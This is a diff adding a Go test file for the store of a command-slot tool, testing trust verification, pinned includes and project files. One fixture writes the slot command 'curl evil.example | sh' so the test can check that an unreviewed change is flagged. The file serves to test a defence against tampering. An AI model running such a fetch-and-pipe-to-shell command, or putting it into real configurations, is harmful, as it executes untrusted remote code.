@@ -0,0 +1,158 @@
+package store
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/idelchi/slot/internal/slot"
+)
+
+// newTrustStore returns a store including team.yaml with a slot named team, with all files trusted.
+func newTrustStore(t *testing.T) (Store, string) {
+	t.Helper()
+
+	store := newTestStore(t, "include:\n  - ./team.yaml\n")
+	team := filepath.Join(filepath.Dir(store.Path()), "team.yaml")
+
+	if err := os.WriteFile(team, []byte("slots:\n  - name: team\n    cmd: echo team\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := store.Trust(); err != nil {
+		t.Fatal(err)
+	}
+
+	return store, team
+}
+
+func TestWritesKeepTrustedFilesTrusted(t *testing.T) {
+	store, _ := newTrustStore(t)
+
+	if _, err := store.Replace("team", slot.Slot{Name: "team", Cmd: "echo changed"}); err != nil {
+		t.Fatal(err)
+	}
+
+	changes, err := store.Verify()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(changes) > 0 {
+		t.Errorf("write through slot was reported as a change: %+v", changes)
+	}
+}
+
+func TestWritesKeepChangedFilesUntrusted(t *testing.T) {
+	store, team := newTrustStore(t)
+
+	// An unreviewed change made outside of slot.
+	data := "slots:\n  - name: team\n    cmd: curl evil.example | sh\n"
+	if err := os.WriteFile(team, []byte(data), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := store.Insert(team, slot.Slot{Name: "other", Cmd: "true"}); err != nil {
+		t.Fatal(err)
+	}
+
+	changes, err := store.Verify()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(changes) != 1 || changes[0].Path != team || !strings.Contains(changes[0].Diff, "evil.example") {
+		t.Errorf("got changes %+v, want the unreviewed change to %q", changes, team)
+	}
+}
+
+func TestVerifyReportsUntrustedFiles(t *testing.T) {
+	store, _ := newTrustStore(t)
+	dir := filepath.Dir(store.Path())
+
+	if err := os.WriteFile(filepath.Join(dir, "new.yaml"), []byte("slots: []\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := os.WriteFile(store.Path(), []byte("include:\n  - ./team.yaml\n  - ./new.yaml\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	changes, err := store.Verify()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(changes) != 1 || !changes[0].New || changes[0].Path != filepath.Join(dir, "new.yaml") {
+		t.Errorf("got changes %+v, want new.yaml reported as untrusted", changes)
+	}
+}
+
+func TestPinnedIncludeNotWritable(t *testing.T) {
+	store := newTestStore(t, "")
+	team := filepath.Join(filepath.Dir(store.Path()), "team.yaml")
+	data := []byte("slots:\n  - name: team\n    cmd: echo team\n")
+
+	if err := os.WriteFile(team, data, 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	content := "include:\n  - path: ./team.yaml\n    sha256: " + hash(data) + "\n"
+	if err := os.WriteFile(store.Path(), []byte(content), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := store.Replace("team", slot.Slot{Name: "team", Cmd: "echo changed"}); err == nil ||
+		!strings.Contains(err.Error(), "pinned") {
+		t.Errorf("replacing a slot of a pinned file: got error %v, want a refusal", err)
+	}
+
+	if _, err := store.Save(team, slot.Slot{Name: "other", Cmd: "true"}, false); err == nil {
+		t.Error("saving into a pinned file succeeded")
+	}
+
+	if _, err := store.Load(); err != nil {
+		t.Errorf("pin broken by a refused write: %v", err)
+	}
+}
+
+func TestSavingProjectSlotsDoesNotReportUntrustedIncludes(t *testing.T) {
+	store := newTestStore(t, "include:\n  - ./team.yaml\n")
+	team := filepath.Join(filepath.Dir(store.Path()), "team.yaml")
+
+	if err := os.WriteFile(team, []byte("slots:\n  - name: team\n    cmd: echo team\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	store = store.WithProject(filepath.Join(t.TempDir(), ProjectFile))
+
+	if _, err := store.Save(store.Project(), slot.Slot{Name: "build", Cmd: "go build"}, false); err != nil {
+		t.Fatal(err)
+	}
+
+	if trusted, err := Trusted(store.Project()); err != nil || !trusted {
+		t.Errorf("got %v, %v, want the created project file trusted", trusted, err)
+	}
+
+	changes, err := store.Verify()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(changes) > 0 {
+		t.Errorf("got changes %+v, want none before any file was trusted with slot trust", changes)
+	}
+
+	if _, err := store.Trust(store.Project()); err != nil {
+		t.Fatal(err)
+	}
+
+	if changes, err = store.Verify(); err != nil {
+		t.Fatal(err)
+	}
+
+	if len(changes) != 1 || changes[0].Path != team || !changes[0].New {
+		t.Errorf("got changes %+v, want %q reported as untrusted once a file was reviewed", changes, team)
+	}
+}